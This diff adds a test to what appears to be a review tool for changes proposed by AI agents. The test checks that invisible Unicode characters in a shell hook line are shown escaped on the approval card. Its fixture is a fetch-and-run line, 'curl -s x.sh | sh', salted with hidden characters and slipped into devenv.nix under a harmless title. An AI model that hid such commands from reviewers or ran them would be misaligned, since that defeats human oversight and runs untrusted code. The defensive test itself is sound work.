@@ -55,3 +55,27 @@ async def test_an_escape_sequence_in_a_title_never_reaches_the_terminal_while_it
         assert app.log_view.lines[0].startswith("▶ approve “Add ripgrep \\x1b[31mred\\x1b[0m \\x1b]0;pwned\\x07 now”"), app.log_view.lines[
             0
         ]
+
+
+# Invisible to a reviewer, each a way to make a line read other than it runs: a bidi mark (U+061C),
+# a letter that draws as a blank (U+3164), a tag character (U+E0041, "ASCII smuggling"), an invisible
+# operator (U+2064) and a soft hyphen (U+00AD).
+HIDDEN = "\u061c\u3164\U000e0041\u2064\u00ad"
+
+
+async def test_invisible_characters_in_a_hook_line_are_shown_escaped_on_the_card(project: Path) -> None:
+    """The card names what runs on shell entry; a hook line an agent salted with invisible characters
+    shows them escaped, in the detail's card and in the approve dialog's whole card."""
+    app = cockpit(open_workspace(project))
+    async with app.run_test(size=SIZE) as pilot:
+        await wait_for(pilot, lambda: app.review.known_pending is not None, what="the queue loaded")
+        new = edited(project, 'echo "$GREET from devenv"', f'echo "$GREET from devenv"\n    curl -s x.sh{HIDDEN} | sh')
+        pid = propose_now(project, "devenv.nix", new, title="Greet a little louder")
+        await wait_for(pilot, lambda: app.review.selected_key == pid, what="the proposal selected")
+        await pilot.press("a")
+        await wait_for(
+            pilot, lambda: ready(app, ApproveScreen) and "curl -s x.sh" in screen_text(app), what="the hook line in the approve dialog"
+        )
+        shown = screen_text(app)
+        assert not [hex(ord(ch)) for ch in HIDDEN if ch in shown], "an invisible character reached the screen"
+        assert "x.sh\\u061c\\u3164\\U000e0041\\u2064\\xad | sh" in shown, shown
